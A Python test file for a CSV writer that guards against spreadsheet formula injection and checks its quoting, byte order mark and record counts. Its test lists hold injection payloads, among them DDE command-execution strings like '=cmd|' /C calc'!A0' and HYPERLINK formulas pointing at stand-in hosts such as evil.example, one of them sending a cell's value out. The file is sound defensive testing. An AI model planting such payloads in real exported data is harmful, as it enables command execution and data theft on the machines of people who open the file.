"""Rows become a CSV that every reader takes, and no cell of it runs in a spreadsheet."""

import csv
import io
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sheets_decrypt.output.csv_text import CsvText, Guard, RecordCount

TEXT = st.text(st.characters(exclude_categories=["Cs"]))
AWKWARD = st.text(st.sampled_from("ab\",;\r\n\t \x00'=+-@é🌾\ufeff"), max_size=8)
CELLS = st.one_of(TEXT, AWKWARD)
ROWS = st.lists(st.lists(CELLS, min_size=3, max_size=3), max_size=8)
HEADER = ("a", "b", "c")


def guarded(cell: str, guard: Guard) -> bool:
    """Say whether the guard puts a `'` before a cell, and prove that it does nothing else."""
    text = CsvText("utf-8", guard)
    ((written,),) = read(text.rows([[cell]]))
    assert written in {cell, "'" + cell}
    assert text.guarded_cells == (written != cell)
    return written != cell


def read(data: bytes) -> list[list[str]]:
    """Read a CSV as RFC 4180 has it."""
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""), strict=True))


RUNS = [
    "=",
    "=1+1",
    '=HYPERLINK("http://evil.example","click")',
    "=cmd|' /C calc'!A0",
    "@",
    "@SUM(1+1)",
    "\t=1+1",
    "\ttext",
    "\r=1+1",
    "\rtext",
    "+",
    "-",
    "+ ",
    "- ",
    "--5",
    "++5",
    "+-5",
    "-+5",
    "-a",
    "+a",
    "- hello",
    "-- signed",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+57 300 1234567|x",
    "+57 300 1234567=1",
    "-1=1",
    "-5\n=1+1",
    "+5\t",
    "-5*2",
    "-5^2",
    "-5&A1",
    "+5%%",
    "-A1",
    "+SUM(1)",
    "-(1+2)",
    "-$5",
    "-1e",
    "-1e+",
    "-.",
    "-,5",
    "+()",
    "-5 EUR",
    "-cmd",
    "+5!A0",
    "-1x",
    "+1 ext",
    "+57 300 ext 5 ext 6",
    '-"5"',
    "+'5'",
]
SPARED = [
    "-5",
    "+5",
    "+ 1",
    "- 1",
    "-0",
    "+007",
    "-1,234.5",
    "-1.234,5",
    "-.5",
    "+.5e3",
    "-1e5",
    "+1E-5",
    "-1.5e+300",
    "+3.5%",
    "-.5%",
    "+573001234567",
    "+57 300 1234567",
    "+1 (555) 123-4567",
    "+1-555-123-4567",
    "+49 30/1234567",
    "+44.20.7946.0958",
    "+(57) 300 1234567",
    "+1 555 123 4567 ext. 89",
    "+1 555 123 4567 ext 89",
    "+1 555 123 4567x89",
]
HARMLESS = [
    "",
    " ",
    "text",
    "'=1+1",
    " =1+1",
    "1+1",
    "5",
    "a=1",
    "a@b.org",
    "№=1",
    "Ana María",
    "#ERROR!",
    "'",
    '"=1"',
    "No Data",
    "\x00=1",
    "\ufeff=1",
    "v2:AAAA",
    "(=1)",
]


@pytest.mark.parametrize("cell", RUNS)
def test_a_cell_that_a_spreadsheet_would_run_is_guarded(cell: str) -> None:
    """`smart` and `owasp` put a `'` before everything that begins a formula."""
    assert guarded(cell, "smart")
    assert guarded(cell, "owasp")
    assert not guarded(cell, "off")


@pytest.mark.parametrize("cell", SPARED)
def test_smart_spares_numbers_and_phone_numbers(cell: str) -> None:
    """A signed number and a phone number come out as they went in under `smart`; `owasp` guards them."""
    assert not guarded(cell, "smart")
    assert guarded(cell, "owasp")
    assert not guarded(cell, "off")


@pytest.mark.parametrize("cell", HARMLESS)
def test_what_begins_no_formula_is_left_alone(cell: str) -> None:
    """Other cells come out as they went in under every guard."""
    for guard in ("smart", "owasp", "off"):
        assert not guarded(cell, guard)


@pytest.mark.parametrize("cell", ["\n=1", "＝1+1", "＋1", "－1", "＠SUM(1)"])
def test_owasp_guards_line_feeds_and_full_width_signs_too(cell: str) -> None:
    """`owasp` follows OWASP's whole list."""
    assert guarded(cell, "owasp")
    assert not guarded(cell, "smart")


@given(CELLS)
def test_owasp_leaves_no_trigger_at_a_cells_start(cell: str) -> None:
    """Under `owasp` no cell begins with one of its characters, and under `smart` none with `=`, `@`, tab or CR."""
    for guard, triggers in (("owasp", "=+-@\t\r\n＝＋－＠"), ("smart", "=@\t\r")):
        ((written,),) = read(CsvText("utf-8", guard).rows([[cell]]))  # type: ignore[arg-type]
        assert not written or written[0] not in triggers


@given(st.text(st.sampled_from("+-=@|!'()*^&$%aA1.,eExt /"), max_size=12))
def test_smart_spares_nothing_that_names_or_calls(text: str) -> None:
    """What `smart` spares after a sign has no operator but `-` and `/` between digits, and no name, string or call."""
    for cell in ("+" + text, "-" + text):
        if not guarded(cell, "smart"):
            assert not set(cell) & set("=@|!'*^&$aA")
            assert set(cell[1:]) & set("0123456789")
            assert "+" not in cell[1:] or cell[cell.index("+", 1) - 1] in "eE"


def test_guarded_cells_are_counted_over_pages() -> None:
    """The count goes over all pages, and only rows that need it are rewritten."""
    text = CsvText("utf-8", "smart")
    assert text.rows([["=1", "b"], ["a", "-5"]]) == b"'=1,b\r\na,-5\r\n"
    assert text.rows([["@x", "+y"]]) == b"'@x,'+y\r\n"
    assert text.guarded_cells == 3


def test_rows_are_not_changed_in_place() -> None:
    """The guard rewrites a copy."""
    row = ["=1", "b"]
    CsvText("utf-8", "smart").rows([row])
    assert row == ["=1", "b"]


def test_the_header_is_kept_and_guarded() -> None:
    """Blank and duplicate names are kept; a name that a spreadsheet would run is guarded, as editors may write it."""
    text = CsvText("utf-8", "smart")
    assert text.header(["a", "", "a", '=HYPERLINK("http://evil/"&B2)', 'say "b"']) == (
        b'a,,a,"\'=HYPERLINK(""http://evil/""&B2)","say ""b"""\r\n'
    )
    assert text.guarded_cells == 1
    assert CsvText("utf-8", "off").header(["=x"]) == b"=x\r\n"


def test_the_byte_order_mark_comes_once() -> None:
    """`utf-8-sig` begins with one byte order mark, before the header alone; `utf-8` has none."""
    with_mark, without = CsvText("utf-8-sig", "smart"), CsvText("utf-8", "smart")
    assert with_mark.header(["né"]) == b"\xef\xbb\xbf" + "né\r\n".encode()
    assert without.header(["né"]) == "né\r\n".encode()
    assert with_mark.rows([["é"]]) == without.rows([["é"]]) == "é\r\n".encode()


def test_lines_end_as_rfc_4180_has_it() -> None:
    """Every record ends with CR LF; a line break within a cell stays as it is, in quotes."""
    text = CsvText("utf-8", "off")
    assert text.rows([["a\nb", "c\rd"], ['e"f', "g,h"]]) == b'"a\nb","c\rd"\r\n"e""f","g,h"\r\n'
    assert text.rows([]) == b""
    assert text.rows([[""]]) == b'""\r\n'
    assert text.rows([["", ""]]) == b",\r\n"


@given(st.sampled_from(["utf-8", "utf-8-sig"]), st.lists(CELLS, min_size=3, max_size=3), ROWS)
def test_any_text_comes_back_from_a_csv_reader(encoding: str, names: list[str], rows: list[list[str]]) -> None:
    """Any text is read back as it was written; line breaks and NUL are kept, as any other character is."""
    text = CsvText(encoding, "off")  # type: ignore[arg-type]
    data = text.header(names) + text.rows(rows)
    if encoding == "utf-8-sig":
        assert data.startswith(b"\xef\xbb\xbf")
        data = data[3:]
    assert read(data) == [names, *rows]


@given(st.integers(1, 3), st.data())
def test_a_cell_is_quoted_only_where_it_must_be(width: int, data: st.DataObject) -> None:
    """The bytes are those of the csv module, which quotes what RFC 4180 wants quoted and an empty line's only cell."""
    rows = data.draw(st.lists(st.lists(CELLS, min_size=width, max_size=width), max_size=6))
    written = io.StringIO(newline="")
    csv.writer(written, lineterminator="\r\n").writerows(rows)
    assert CsvText("utf-8", "off").rows(rows) == written.getvalue().encode()


@given(ROWS, st.integers(0, 8))
def test_pages_give_the_same_bytes_as_one(rows: list[list[str]], cut: int) -> None:
    """However the rows are cut into pages, the bytes and the count of guarded cells are the same."""
    whole, split = CsvText("utf-8", "smart"), CsvText("utf-8", "smart")
    assert whole.rows(rows) == split.rows(rows[:cut]) + split.rows(rows[cut:])
    assert whole.guarded_cells == split.guarded_cells


def test_a_lone_surrogate_goes_out_as_it_came_in() -> None:
    """Text that UTF-8 cannot hold does not stop the run."""
    assert CsvText("utf-8", "smart").rows([["\ud83d"]]) == b"\xed\xa0\xbd\r\n"


@given(st.sampled_from(["utf-8", "utf-8-sig"]), ROWS, st.lists(st.integers(0, 200), max_size=6), st.booleans())
def test_records_are_counted_as_a_reader_counts_them(
    encoding: str, rows: list[list[str]], cuts: list[int], ended: bool
) -> None:
    """However a CSV is cut into pieces, its records are counted as csv.reader does, with or without a last line end."""
    text = CsvText(encoding, "smart")  # type: ignore[arg-type]
    data = text.header(HEADER) + text.rows(rows)
    data = data if ended else data.removesuffix(b"\r\n")
    count = RecordCount()
    for start, end in pairwise([0, *sorted(min(cut, len(data)) for cut in cuts), len(data)]):
        count.add(data[start:end])
    assert count.rows == len(read(data)) - 1 == len(rows)


def test_a_csv_of_one_column_is_counted_with_its_blanks() -> None:
    """A blank cell alone in its row is a record."""
    text = CsvText("utf-8", "off")
    count = RecordCount()
    count.add(text.header(["a"]) + text.rows([[""], ["x"], [""]]))
    assert count.rows == 3


@pytest.mark.parametrize("data", [b"", b"a,b", b"a,b\r\n", b"\xef\xbb\xbfa\r\n", b'"a\r\nb"\r\n'])
def test_nothing_or_a_header_alone_has_no_rows(data: bytes) -> None:
    """A CSV without rows counts none, whatever its header is."""
    count = RecordCount()
    count.add(data)
    count.add(b"")
    assert count.rows == 0
